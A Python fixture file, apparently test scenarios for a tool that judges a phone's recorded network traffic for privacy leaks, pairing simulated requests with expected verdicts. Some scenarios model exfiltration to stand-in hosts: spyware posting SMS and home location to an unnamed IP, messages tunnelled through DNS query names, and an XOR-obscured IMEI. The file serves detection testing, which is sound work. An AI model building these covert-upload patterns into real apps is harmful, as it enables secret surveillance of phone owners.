"""Phones that tell, and phones of which nobody can say."""

import base64
import hashlib
import json
import random

import person
from phone import Phone
from story import story

_JSON = {"Content-Type": "application/json"}
_JPEG = {"Content-Type": "image/jpeg"}


def _noise(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


@story("photo backup that is off, and yet sends",
       ("galleryapi.micloud.xiaomi.net", "undisclosed", "Photos went unattended although every backup was off."))
def _(phone: Phone) -> None:
    phone.at("14:10")
    for photo in person.PHOTOS[:2]:
        phone.request("PUT", "https://galleryapi.micloud.xiaomi.net/mic/gallery/v2/user/full", photo, _JPEG)


@story("messages go where only photos were meant to",
       ("galleryapi.micloud.xiaomi.net", "undisclosed", "The backup of photos is on; that of messages is not, and they went too."),
       consent={"backups": ["photos"]})
def _(phone: Phone) -> None:
    phone.at("14:10")
    phone.request("PUT", "https://galleryapi.micloud.xiaomi.net/mic/gallery/v2/user/full", person.PHOTOS[0], _JPEG)
    phone.request("POST", "https://galleryapi.micloud.xiaomi.net/mic/sync", json.dumps({"sms": person.MESSAGES[:4]}).encode(), _JSON)


@story("identifiers alone, in clear",
       ("api.chat.maker.example", "undisclosed", "IMEI and number stay for life; they went in clear, unattended, to somebody not asked for."))
def _(phone: Phone) -> None:
    for _ in phone.every(240, "01:00", 3):
        phone.request("POST", "http://api.chat.maker.example/register",
                      f"imei={person.one('imei')}&phone={person.one('phone_number')[1:]}".encode(),
                      {"Content-Type": "application/x-www-form-urlencoded"})


@story("IMEI as a cut hash",
       ("api.chat.maker.example", "undisclosed", "A hash of an IMEI is the IMEI to whoever has a list of them; nobody was asked."))
def _(phone: Phone) -> None:
    name = base64.urlsafe_b64encode(hashlib.sha1(person.one("imei").encode()).digest())[:16].decode()
    for _ in phone.every(240, "01:00", 3):
        phone.request("GET", f"https://api.chat.maker.example/pass?id={name}")


@story("IMEI in an encryption of the app's own",
       ("up.maker.example", "undisclosed", "An identifier for life, hidden from the owner by a key that stands beside it."))
def _(phone: Phone) -> None:
    key = 0x5A
    body = bytes(byte ^ key for byte in f'{{"imei":"{person.one("imei")}","n":1}}'.encode())
    for _ in phone.every(300, "02:00", 2):
        phone.request("POST", "http://up.maker.example/u", body, {"Content-Type": "application/octet-stream"})


@story("crash reports with the Android id",
       ("firebase-settings.crashlytics.com", "telemetry", "A host known for crash reports, and the identifier that such reports carry."))
def _(phone: Phone) -> None:
    phone.at("03:00")
    phone.request("POST", "https://firebase-settings.crashlytics.com/spi/v2",
                  json.dumps({"android_id": person.one("android_id"), "crash": "NullPointerException"}).encode(), _JSON)


@story("crash reports, unread",
       ("firebase-settings.crashlytics.com", "telemetry", "What it said stayed closed; the host is known for crash reports, and little went."))
def _(phone: Phone) -> None:
    for _ in phone.every(200, "02:00", 3):
        phone.request("POST", "https://firebase-settings.crashlytics.com/spi/v2", b"y" * 900, keys=False)


@story("a network for advertisements",
       ("googleads.g.doubleclick.net", "advertising", "A host known for advertisements, and the identifier made for them."))
def _(phone: Phone) -> None:
    for _ in phone.every(10, "00:10", 6):
        phone.request("GET", f"https://googleads.g.doubleclick.net/mads/gma?adid={person.one('advertising_id')}")


@story("adware nobody knows",
       ("cdn.flashlight-free.example", "advertising", "Advertising and Android id together, every ten minutes by night: that is for advertisements."))
def _(phone: Phone) -> None:
    for _ in phone.every(10, "00:10", 18):
        phone.request("POST", "https://cdn.flashlight-free.example/v2/event",
                      json.dumps({"gaid": person.one("advertising_id"), "aid": person.one("android_id"), "slot": "a"}).encode(), _JSON)


@story("hash of the mail address for a tracker",
       ("api.mixpanel.com", "undisclosed", "The address stands for the person for years; it went to a third party, unattended, without a word."))
def _(phone: Phone) -> None:
    hashed = hashlib.sha256(person.one("email").encode()).hexdigest()
    for _ in phone.every(180, "00:40", 4):
        phone.request("POST", "https://api.mixpanel.com/track", json.dumps({"event": "open", "em": hashed}).encode(), _JSON)


@story("spy program that forwards messages",
       ("203.0.113.77", "undisclosed", "Messages and the place went unattended, in clear, to an address that has no name."))
def _(phone: Phone) -> None:
    for i in phone.every(20, "09:00", 6):
        phone.request("POST", "http://203.0.113.77/in.php", json.dumps({
            "sms": person.MESSAGES[i], "lat": person.HOME[0], "lon": person.HOME[1]}).encode(), _JSON)


@story("address book, unasked",
       ("api.finder.example", "undisclosed", "Hashes of all numbers went by night; nobody pressed anything."))
def _(phone: Phone) -> None:
    phone.at("03:10")
    hashes = [hashlib.sha256(number.encode()).hexdigest() for _, number in person.CONTACTS]
    phone.request("POST", "https://api.finder.example/v1/contacts", json.dumps({"h": hashes}).encode(), _JSON)


@story("messages in names of hosts",
       ("198.51.100.1", "undisclosed", "What looks like DNS carries messages: whoever runs that domain gets them through any resolver."))
def _(phone: Phone) -> None:
    for i in phone.every(5, "02:00", 8):
        coded = base64.b32encode(person.MESSAGES[i % len(person.MESSAGES)].encode()[:60]).decode().rstrip("=").lower()
        phone.ask(".".join([*(coded[at:at + 60] for at in range(0, len(coded), 60)), "t.tunnel.example"]))


@story("list of installed apps",
       ("log.weather.example", "undisclosed", "What somebody has installed says who she is; a weather app has no need of it."))
def _(phone: Phone) -> None:
    phone.at("03:00")
    phone.request("POST", "https://log.weather.example/apps", json.dumps({"packages": person.PACKAGES}).encode(), _JSON)


@story("name of the home network to a weather app",
       ("log.weather.example", "telemetry", "A network's name is of little use beyond measuring; nothing of it was disclosed, but it is no content."))
def _(phone: Phone) -> None:
    for _ in phone.every(120, "01:00", 4):
        phone.request("POST", "https://log.weather.example/env", json.dumps({"ssid": person.one("ssid"), "v": 3}).encode(), _JSON)


@story("large upload without keys",
       ("up.storage.example", "undecidable", "300 kB went unattended; nobody can read them, and nothing says what the host is for."))
def _(phone: Phone) -> None:
    phone.at("14:10")
    for i in range(3):
        phone.request("PUT", "https://up.storage.example/o", _noise(100_000, i), keys=False)


@story("address without a name",
       ("203.0.113.99", "undecidable", "A protocol of its own to an address without a name: nothing to go by."))
def _(phone: Phone) -> None:
    for i in phone.every(47, "01:00", 4):
        phone.stream("203.0.113.99", 5222, _noise(200, i), _noise(2000, i + 9))


@story("behind a network for everybody",
       ("d111111abcdef8.cloudfront.net", "undecidable", "Amazon rents it to thousands; who is behind it cannot be said, nor what went."))
def _(phone: Phone) -> None:
    for i, clock in enumerate(("01:13", "03:55", "04:20", "11:42")):
        phone.at(clock)
        phone.request("POST", "https://d111111abcdef8.cloudfront.net/x", _noise(1500, i), keys=False)


@story("beats every half hour, closed",
       ("hb.maker.example", "undecidable", "A timer speaks and says little; whether that is push or telemetry, the recording does not show."))
def _(phone: Phone) -> None:
    for i in phone.every(30, "00:05", 16):
        phone.request("POST", "https://hb.maker.example/b", _noise(400, i), keys=False)


@story("download from somebody unknown",
       ("dl.files.example", "undecidable", "Much came and hardly anything went: an update or advertisements, nobody knows."))
def _(phone: Phone) -> None:
    phone.at("04:00")
    phone.request("GET", "https://dl.files.example/a", answer=_noise(2_000_000, 1), keys=False)


@story("photos to a backup, and the owner says nothing",
       ("galleryapi.micloud.xiaomi.net", "undecidable", "Whether the backup was on is for the owner to say, and she has not."),
       consent=None, used=None)
def _(phone: Phone) -> None:
    phone.at("14:10")
    phone.request("PUT", "https://galleryapi.micloud.xiaomi.net/mic/gallery/v2/user/full", person.PHOTOS[0], _JPEG)
